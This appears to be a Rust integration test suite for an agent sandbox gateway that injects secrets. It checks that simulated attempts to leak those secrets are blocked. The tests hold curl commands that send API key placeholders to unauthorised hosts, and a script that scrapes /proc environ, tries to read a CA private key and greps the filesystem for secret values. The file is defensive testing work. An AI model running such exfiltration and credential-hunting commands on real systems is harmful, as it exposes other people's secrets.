//! What an agent might try to get a secret out: TLS to hosts without a rule (spliced: the gateway neither
//! sees nor injects), placeholders sent where their secret may not go (the leak guard), another run's
//! placeholder, and looking for the value anywhere inside the jail. Host ≠ SNI is in [`super::hosts`].

use super::{B_HOST, TWO_SECRETS, World, assert_placeholder, printed, record_header, script, secret_value};
use crate::support::{API, OTHER, entries_for, read_log};

/// For each name in argv[2:], connects to NAME:443 trusting only the CA file argv[1] (`-`: the default
/// trust, i.e. the jail's bundle) and prints `NAME=ok ISSUER-CN` or `NAME=fail REASON`.
const VERIFY_WITH_PY: &str = r#"
import socket, ssl, sys
cafile = sys.argv[1]
for name in sys.argv[2:]:
    ctx = ssl.create_default_context(cafile=cafile) if cafile != "-" else ssl.create_default_context()
    try:
        with ctx.wrap_socket(socket.create_connection((name, 443), timeout=10), server_hostname=name) as s:
            issuer = dict(x[0] for x in s.getpeercert()["issuer"])
            print("%s=ok %s" % (name, issuer.get("commonName")))
    except ssl.SSLCertVerificationError as e:
        print("%s=fail %s" % (name, e.verify_message))
"#;

// covers: E13 (TLS to a host without a rule is spliced: the client sees the upstream's own certificate,
// and nothing is injected or replaced there)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn non_rule_hosts_are_spliced_with_their_own_certificate() {
    let world = World::new().await;
    let value = secret_value("splice");
    let log = world.path("log.jsonl");
    let verify = script(&world, "verify_with.py", VERIFY_WITH_PY);
    let test_ca = world.upstream_ca();
    let issuer = |host: &str| {
        format!(
            "echo \"issuer_{host}=$(openssl s_client -connect {host}:443 -servername {host} </dev/null 2>/dev/null \
             | openssl x509 -noout -issuer)\"\n"
        )
    };
    // The spliced request trusts the upstream's CA: the gateway does not terminate it, so the client must.
    let sh = format!(
        "{}{}/usr/bin/python3 {verify} {test_ca} {OTHER} {API}\n/usr/bin/python3 {verify} - {OTHER} {API}\n\
         curl -sS -m 10 --noproxy '*' --cacert {test_ca} -o /dev/null -w 'spliced=%{{http_code}}\\n' \
         -H \"Authorization: Bearer $API_KEY\" -H \"X-Copy: $API_KEY\" \"https://{OTHER}/spliced?k=$API_KEY\"\n",
        issuer(OTHER),
        issuer(API)
    );
    let out = world
        .run()
        .secrets(TWO_SECRETS)
        .env("API_TOKEN", &value)
        .env("B_TOKEN", "b")
        .log(&log)
        .sh(&sh)
        .await;
    out.expect_code(0);
    let lines: Vec<&str> = out.stdout.lines().collect();
    let vars = printed(&out.stdout);
    assert!(
        vars[&format!("issuer_{OTHER}")].contains("agenthold test CA"),
        "{out:#?}"
    );
    assert!(
        vars[&format!("issuer_{API}")].contains("agenthold egress CA"),
        "{out:#?}"
    );
    // Trusting only the upstream's CA works for the spliced host and fails for the intercepted one;
    // trusting the jail's bundle (the gateway's CA) is the other way round.
    let verified: Vec<&str> = lines
        .iter()
        .copied()
        .filter(|l| l.contains("=ok") || l.contains("=fail"))
        .collect();
    assert_eq!(verified.len(), 4, "{out:#?}");
    assert_eq!(verified[0], format!("{OTHER}=ok agenthold test CA"), "{out:#?}");
    assert!(verified[1].starts_with(&format!("{API}=fail")), "{out:#?}");
    assert!(verified[2].starts_with(&format!("{OTHER}=fail")), "{out:#?}");
    assert_eq!(verified[3], format!("{API}=ok agenthold egress CA"), "{out:#?}");
    assert_eq!(vars["spliced"], "200", "{out:#?}");
    // The spliced request reached its upstream untouched: no header added, the placeholder left as it was.
    let seen = world.echoed(OTHER);
    let spliced = seen.iter().find(|r| r.path.starts_with("/spliced")).unwrap();
    let placeholder = spliced.header("x-copy").unwrap().to_owned();
    assert_placeholder(&placeholder);
    assert_eq!(
        spliced.header("authorization"),
        Some(format!("Bearer {placeholder}").as_str())
    );
    assert_eq!(spliced.path, format!("/spliced?k={placeholder}"));
    assert!(
        seen.iter()
            .all(|r| !format!("{:?}", r.to_json()).contains(&value)),
        "{seen:#?}"
    );
    let log = read_log(&log);
    for e in entries_for(&log, OTHER) {
        assert_ne!(
            e["kind"], "http",
            "the gateway saw a request on a spliced connection: {e}"
        );
        assert_eq!(e["secret_injected"], false, "{e}");
    }
}

// covers: E13 (the leak guard: a placeholder on plain HTTP, to a host without a rule over plain HTTP or the
// explicit proxy, or to another secret's rule host, is refused with 403 placeholder_leak; plain HTTP to a
// rule host is never injected)
//
// A placeholder sent over TLS to a host without a rule cannot be caught: that TLS is spliced, opaque to
// the gateway (the test above shows it leaves unchanged, as a placeholder, never as the value). The
// guard is therefore tested where the gateway sees requests: plain HTTP, and intercepted rule hosts that
// receive another secret's placeholder.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn leak_guard_refuses_placeholders_where_their_secret_may_not_go() {
    let world = World::new().await;
    let (a, b) = (secret_value("leak-a"), secret_value("leak-b"));
    let log = world.path("log.jsonl");
    let curl = |label: &str, args: &str| {
        format!("echo \"{label}=$(curl -sS -m 10 {args} -w ' %{{http_code}}' 2>&1 | tr -d '\\n')\"\n")
    };
    let mut sh = String::new();
    sh += &curl(
        "plain_rule_host",
        &format!("--noproxy '*' -H \"Authorization: Bearer $API_KEY\" http://{API}/p1"),
    );
    sh += &curl(
        "plain_rule_host_query",
        &format!("--noproxy '*' \"http://{API}/p2?k=$API_KEY\""),
    );
    sh += &curl(
        "plain_rule_host_clean",
        &format!("--noproxy '*' -o /dev/null http://{API}/p3"),
    );
    sh += &curl(
        "plain_other",
        &format!("--noproxy '*' -H \"X-Leak: $API_KEY\" http://{OTHER}/p4"),
    );
    sh += &curl(
        "explicit_other",
        &format!("-x \"$HTTP_PROXY\" -H \"X-Leak: $API_KEY\" http://{OTHER}/p5"),
    );
    sh += &curl(
        "a_to_b_header",
        &format!("--noproxy '*' -H \"X-Leak: $API_KEY\" https://{B_HOST}/t1"),
    );
    sh += &curl(
        "a_to_b_query",
        &format!("--noproxy '*' \"https://{B_HOST}/t2?k=$API_KEY\""),
    );
    sh += &curl(
        "a_to_b_proxied",
        &format!("-H \"Authorization: Bearer $API_KEY\" https://{B_HOST}/t3"),
    );
    sh += &curl(
        "b_to_a_h2",
        &format!("--noproxy '*' --http2 -H \"X-Leak: x$B_KEY\" https://{API}/t4"),
    );
    sh += &curl(
        "own_host",
        &format!("--noproxy '*' -H \"X-Mine: $B_KEY\" https://{B_HOST}/t5"),
    );
    let out = world
        .run()
        .secrets(TWO_SECRETS)
        .env("API_TOKEN", &a)
        .env("B_TOKEN", &b)
        .log(&log)
        .sh(&sh)
        .await;
    out.expect_code(0);
    let vars = printed(&out.stdout);
    for label in [
        "plain_rule_host",
        "plain_rule_host_query",
        "plain_other",
        "explicit_other",
        "a_to_b_header",
        "a_to_b_query",
        "a_to_b_proxied",
        "b_to_a_h2",
    ] {
        let got = &vars[label];
        assert!(
            got.ends_with(" 403") && got.contains("placeholder_leak"),
            "{label}: {got:?}"
        );
    }
    assert_eq!(vars["plain_rule_host_clean"], "200", "{out:#?}");
    // E13 as amended: even on its own host, a placeholder outside the rule's header is refused.
    let own = &vars["own_host"];
    assert!(
        own.ends_with(" 403") && own.contains("placeholder_misplaced"),
        "own_host: {own:?}"
    );
    // Nothing refused reached an upstream; plain HTTP to the rule host went out without any secret.
    let plain = world.env.http.requests();
    assert_eq!(
        plain.iter().map(|r| r.path.as_str()).collect::<Vec<_>>(),
        ["/p3"],
        "{plain:#?}"
    );
    assert_eq!(plain[0].header("authorization"), None);
    assert!(world.echo.requests().is_empty(), "{:#?}", world.echo.requests());
    let log = read_log(&log);
    let leaks: Vec<_> = log.iter().filter(|e| e["reason"] == "placeholder_leak").collect();
    assert_eq!(leaks.len(), 8, "{log:#?}");
    for e in &leaks {
        assert_eq!(e["decision"], "denied", "{e}");
        assert_eq!(e["status"], 403, "{e}");
        assert_eq!(e["secret_injected"], false, "{e}");
        let which = if e["path"] == "/t4" { "bee" } else { "api" };
        assert_eq!(e["secret"], which, "{e}");
    }
    let text = std::fs::read_to_string(world.path("log.jsonl")).unwrap();
    assert!(!text.contains(&a) && !text.contains(&b), "{text}");
}

// covers: E13 (leak guard `log` (AGENTHOLD_EGRESS_LEAK_GUARD=log): the request goes out with the placeholder
// as it was, never the value, and the log says `placeholder_leak:NAME (logged only)`)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn leak_guard_in_log_mode_forwards_the_placeholder_and_logs_it() {
    let world = World::new().await;
    let (a, b) = (secret_value("log-a"), secret_value("log-b"));
    let log = world.path("log.jsonl");
    let sh = format!(
        "curl -sS -m 10 --noproxy '*' -o /dev/null -H \"X-Leak: $API_KEY\" https://{B_HOST}/logged-tls\n\
         curl -sS -m 10 --noproxy '*' -o /dev/null \"http://{API}/logged-plain?k=$API_KEY\"\n"
    );
    let out = world
        .run()
        .secrets(TWO_SECRETS)
        .env("API_TOKEN", &a)
        .env("B_TOKEN", &b)
        .env("AGENTHOLD_EGRESS_LEAK_GUARD", "log")
        .log(&log)
        .sh(&format!("echo \"API_KEY=$API_KEY\"\n{sh}"))
        .await;
    out.expect_code(0);
    let placeholder = printed(&out.stdout)["API_KEY"].clone();
    assert_placeholder(&placeholder);
    let tls = world.echoed(B_HOST);
    assert_eq!(tls.len(), 1, "{tls:#?}");
    assert_eq!(
        tls[0].header("x-leak"),
        Some(placeholder.as_str()),
        "replaced on another secret's host"
    );
    assert_eq!(
        tls[0].header("x-api-key"),
        Some(b.as_str()),
        "B's own rule still applies"
    );
    let plain = world.env.http.requests();
    assert_eq!(plain.len(), 1, "{plain:#?}");
    assert_eq!(plain[0].path, format!("/logged-plain?k={placeholder}"));
    assert_eq!(plain[0].header("authorization"), None, "plain HTTP was injected");
    let log = read_log(&log);
    let logged: Vec<_> = log
        .iter()
        .filter(|e| e["reason"] == "placeholder_leak:api (logged only)")
        .collect();
    assert_eq!(logged.len(), 2, "{log:#?}");
    assert!(
        logged
            .iter()
            .all(|e| e["decision"] == "allowed" && e["status"] == 200),
        "{log:#?}"
    );
}

// covers: E12 E13 (a placeholder of another run, another agent, means nothing here: never replaced, the
// value never sent)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn another_runs_placeholder_is_not_replaced() {
    let world = World::new().await;
    let value = secret_value("agent");
    let secret = "- name: api\n  value_env: API_TOKEN\n  env: API_KEY\n  hosts: [api.example.test]\n  \
                  header: Authorization\n";
    let first = world
        .run()
        .secrets(secret)
        .env("API_TOKEN", &value)
        .sh("echo \"API_KEY=$API_KEY\"")
        .await;
    first.expect_code(0);
    let theirs = printed(&first.stdout)["API_KEY"].clone();
    assert_placeholder(&theirs);
    let sh = format!(
        "echo \"API_KEY=$API_KEY\"; curl -sS -m 10 --noproxy '*' -o /dev/null -H 'X-Theirs: {theirs}' \
         \"https://{API}/theirs?k={theirs}\""
    );
    let second = world.run().secrets(secret).env("API_TOKEN", &value).sh(&sh).await;
    second.expect_code(0);
    let ours = printed(&second.stdout)["API_KEY"].clone();
    assert_placeholder(&ours);
    assert_ne!(ours, theirs, "placeholders are random per run");
    let seen = world.echoed(API);
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].header("x-theirs"), Some(theirs.as_str()));
    assert_eq!(seen[0].path, format!("/theirs?k={theirs}"));
    assert_eq!(
        seen[0].header("authorization"),
        Some(value.as_str()),
        "the header rule still applies"
    );
}

/// Looks for the value inside the jail: the environment, every process's environ and cmdline, every file
/// written since the run began (the value is fresh, so any file holding it is new), the data dir and the
/// secrets file, and a quiet rule host's answers (headers and body).
const LOOK_SH: &str = r#"
set -u
echo "API_KEY=$API_KEY"
echo "FILE_KEY=$FILE_KEY"
echo "TOKEN_VAR=${API_TOKEN:-unset}"
env
cat /proc/self/environ /proc/1/environ | tr '\0' '\n'
for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline; echo; tr '\0' '\n' < $p/environ; done 2>/dev/null
echo "DATA_DIR=$(ls -A "$DATA" | tr '\n' ' ')"
echo "SECRETS_SIZE=$(wc -c < "$SECRETS")"
cat "$DATA/egress/ca.key" 2>/dev/null && echo "CA_KEY=readable"
echo "QUIET_EXPLICIT=$(curl -sS -m 10 -D - https://api.example.test/quiet-header | tr -d '\r' | tr '\n' ' ')"
echo "QUIET_TRANSPARENT=$(curl -sS -m 10 -D - --noproxy '*' --http2 'https://api.example.test/quiet-query' | tr -d '\r' | tr '\n' ' ')"
printf 'control %s\n' "$NEEDLE_A" > "$CONTROL"
echo "FOUND=$(find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f -newer "$MARKER" -print0 2>/dev/null \
  | xargs -0 grep -lF -e "$NEEDLE_A" -e "$NEEDLE_B" 2>/dev/null | grep -vxF "$SELF" | tr '\n' ' ')"
echo "SEARCHED=$(find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f -newer "$MARKER" -print 2>/dev/null | wc -l)"
"#;

// covers: E10 E12 (the value is nowhere the command can read: environment, /proc, new files anywhere, /run,
// the data dir and the secrets file (hidden), the answers of a rule host that does not echo)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn secret_values_are_nowhere_inside_the_jail() {
    let world = World::new().await;
    let (from_env, from_file) = (secret_value("hidden-env"), secret_value("hidden-file"));
    let upstream = world
        .upstream(
            &[API],
            None,
            serde_json::json!({"expect": {"header": "Authorization", "value": format!("Bearer {from_env}")}}),
        )
        .await;
    let secrets = format!(
        "- name: api\n  value_env: API_TOKEN\n  env: API_KEY\n  hosts: [{API}]\n  header: Authorization\n  \
         template: \"Bearer {{{{.Value}}}}\"\n- name: filed\n  value: {from_file}\n  env: FILE_KEY\n  \
         hosts: [{API}]\n  header: X-File-Key\n"
    );
    // The script holds a prefix of each value to search for (the whole value would make it a finding of
    // its own); it excludes itself, and writes one control file with a prefix that the search must find.
    let (needle_a, needle_b) = (&from_env[..from_env.len() - 4], &from_file[..from_file.len() - 4]);
    let look = world.path("look.sh");
    let marker = world.path("marker");
    let control = world.path("control.txt");
    super::write_file(&marker, b"");
    std::thread::sleep(std::time::Duration::from_millis(20));
    let body = format!(
        "NEEDLE_A='{needle_a}'\nNEEDLE_B='{needle_b}'\nSELF='{}'\nCONTROL='{}'\nMARKER='{}'\nDATA='{}'\nSECRETS='{}'\n{LOOK_SH}",
        look.display(),
        control.display(),
        marker.display(),
        world.path("data").display(),
        "SECRETS_PLACEHOLDER"
    );
    let jailed = world
        .run()
        .secrets(&secrets)
        .env("API_TOKEN", &from_env)
        .map(API, 443, upstream.addr);
    let secrets_path = jailed.secrets_path().unwrap().to_owned();
    super::write_file(
        &look,
        body.replace("SECRETS_PLACEHOLDER", &secrets_path.display().to_string())
            .as_bytes(),
    );
    let out = jailed
        .timeout(std::time::Duration::from_secs(60))
        .output(&["sh", &look.display().to_string()])
        .await;
    out.expect_code(0);
    for v in [&from_env, &from_file] {
        assert!(
            !out.stdout.contains(v.as_str()),
            "the value is readable inside: {out:#?}"
        );
        assert!(!out.stderr.contains(v.as_str()), "{out:#?}");
    }
    let vars = printed(&out.stdout);
    assert_placeholder(&vars["API_KEY"]);
    assert_placeholder(&vars["FILE_KEY"]);
    assert_eq!(vars["TOKEN_VAR"], "unset");
    assert_eq!(vars["DATA_DIR"], "", "the data dir is visible: {out:#?}");
    assert_eq!(
        vars["SECRETS_SIZE"], "0",
        "the secrets file is readable: {out:#?}"
    );
    assert!(!vars.contains_key("CA_KEY"));
    // The search works (it finds the control file the script wrote) and finds nothing else.
    assert_eq!(
        vars["FOUND"],
        control.display().to_string(),
        "files inside the jail hold a value"
    );
    assert!(
        vars["SEARCHED"].parse::<u32>().unwrap() > 0,
        "the search saw no file at all: {out:#?}"
    );
    // The quiet host got both values (it says so, and nothing else).
    for label in ["QUIET_EXPLICIT", "QUIET_TRANSPARENT"] {
        assert!(
            vars[label].starts_with("HTTP/") && vars[label].ends_with("{\"authorized\": true}"),
            "{label}: {out:#?}"
        );
    }
    let requests = upstream.requests("/quiet");
    assert_eq!(requests.len(), 2);
    for r in &requests {
        assert_eq!(record_header(r, "x-file-key"), Some(from_file.as_str()), "{r}");
    }
}

// covers: E13, E23 (interception follows the bytes, not the port: a CONNECT tunnel to a rule host's port
// 80 carrying plain HTTP is served as plain HTTP, decided by Host and never injected, instead of being
// handed to a TLS server that breaks it; a placeholder in it is a leak)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn a_tunnel_to_a_rule_host_without_tls_is_plain_http() {
    let world = World::new().await;
    let value = secret_value("tunnel80");
    let sh = format!(
        "echo \"clean=$(curl -sS -m 10 -p -x \"$HTTP_PROXY\" -o /dev/null -w '%{{http_code}}' http://{API}/t80)\"\n\
         echo \"leak=$(curl -sS -m 10 -p -x \"$HTTP_PROXY\" -o /dev/null -w '%{{http_code}}' \
         -H \"X-Key: $API_KEY\" http://{API}/t80-leak)\"\n"
    );
    let out = world
        .run()
        .secrets(TWO_SECRETS)
        .env("API_TOKEN", &value)
        .env("B_TOKEN", "unused-b")
        .sh(&sh)
        .await;
    out.expect_code(0);
    let vars = printed(&out.stdout);
    assert_eq!(vars["clean"], "200", "{out:#?}");
    assert_eq!(vars["leak"], "403", "{out:#?}");
    let plain = world.env.http.requests();
    let got: Vec<_> = plain.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(got, ["/t80"], "{plain:#?}");
    assert_eq!(
        plain[0].header("authorization"),
        None,
        "plain HTTP is never injected"
    );
}
